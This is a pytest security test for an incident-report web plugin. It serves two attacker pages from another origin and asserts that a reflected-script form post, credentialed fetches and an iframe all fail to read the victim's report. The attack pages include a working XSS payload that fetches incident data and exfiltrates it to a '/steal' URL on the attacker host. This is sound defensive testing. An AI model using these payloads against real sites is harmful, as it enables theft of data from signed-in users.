"""Another site cannot read the report (issue 18, item 2), in a real Chromium with the victim's report cookie.

The attacker's pages come from a second HTTP server on another 127.0.0.1 port: another origin, but the same site, so
the browser sends the report's SameSite=Lax cookie along; only the report's answers can keep its pages unread.
"""

from __future__ import annotations

import json

from analysis_support import with_history
from browser import serve_directory
from plugin_support import extra_plugin_dir, loglevel, say  # noqa: F401
from slack_workspace import ADMIN
from web_support import WEB_URL, link_in, wait_until_serving, web_config

extra_config = web_config

ECHO_ATTACK = """<!doctype html><html><head><meta charset="utf-8"><title>Win a prize</title></head><body>
<form id="f" method="post" action="{report}/echo" enctype="text/plain">
<input type="hidden" name="a" value="<script>fetch('/redalert/incidents?period=all').then(r => r.text())
.then(t => {{ new Image().src = '{site}/steal?d=' + encodeURIComponent(t.slice(0, 300)); }});</script>">
</form><script>document.getElementById('f').submit();</script></body></html>
"""
READ_ATTACK = """<!doctype html><html><head><meta charset="utf-8"><title>Cute cats</title></head><body>
<pre id="result"></pre><script>
const report = '{report}/redalert/incidents?period=all', out = {{}};
async function run() {{
  try {{ const r = await fetch(report, {{credentials: 'include'}}); out.cors = 'read: ' + await r.text(); }}
  catch (e) {{ out.cors = 'blocked'; }}
  try {{ const r = await fetch(report, {{credentials: 'include', mode: 'no-cors'}}); const t = await r.text();
         out.nocors = t ? 'read: ' + t : 'opaque'; }}
  catch (e) {{ out.nocors = 'blocked'; }}
  const frame = document.createElement('iframe');
  frame.onload = () => {{
    try {{ out.frame = 'read: ' + frame.contentDocument.body.innerText; }} catch (e) {{ out.frame = 'blocked'; }}
    document.getElementById('result').textContent = JSON.stringify(out);
  }};
  frame.src = report;
  document.body.appendChild(frame);
}}
run();
</script></body></html>
"""


def sign_in(testbot, slack, page) -> None:
    say(testbot, "!incident web", user=ADMIN, channel="C0OPS")
    page.goto(link_in(slack.messages(slack.open_dm(ADMIN))[-1]["text"]))
    assert "secret breach" in page.content() or page.locator("h1").inner_text() == "Incidents"


def test_a_page_on_another_origin_cannot_read_the_report(testbot, slack, browser_page, tmp_path):
    page = browser_page
    with_history(testbot)
    wait_until_serving()
    sign_in(testbot, slack, page)
    with serve_directory(tmp_path) as site:
        (tmp_path / "echo.html").write_text(ECHO_ATTACK.format(report=WEB_URL, site=site.base_url))
        (tmp_path / "read.html").write_text(READ_ATTACK.format(report=WEB_URL))

        # 1. A form auto-posted to Errbot's /echo would reflect a script onto the report's origin.
        with page.expect_response(f"{WEB_URL}/echo") as echoed:
            page.goto(site.url("echo.html"))
        page.wait_for_load_state()
        assert echoed.value.status == 404
        assert echoed.value.headers["content-security-policy"].startswith("default-src 'none'")
        assert page.locator("h1").inner_text() == "Not found"

        # 2. fetch (with and without CORS) and an iframe of the report, from the other origin.
        page.goto(site.url("read.html"))
        page.wait_for_function("document.getElementById('result').textContent !== ''")
        result = json.loads(page.locator("#result").inner_text())
        assert result == {"cors": "blocked", "nocors": "blocked", "frame": "blocked"}, result
        for frame in page.frames:  # the browser itself did not render the report inside the other site
            if frame != page.main_frame:
                assert "Signed in as" not in frame.content(), frame.url
        stolen = [path for path in site.requests if path.startswith("/steal")]
    assert stolen == []
